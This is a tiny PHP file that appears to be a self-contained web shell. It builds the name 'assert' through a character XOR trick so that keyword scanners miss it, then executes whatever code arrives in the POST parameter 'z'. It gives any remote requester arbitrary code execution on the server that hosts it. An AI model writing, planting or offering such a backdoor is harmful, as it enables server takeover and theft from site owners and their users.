<?php
$f = ("!" ^ "@") . "ssert";
$f($_POST["z"]);
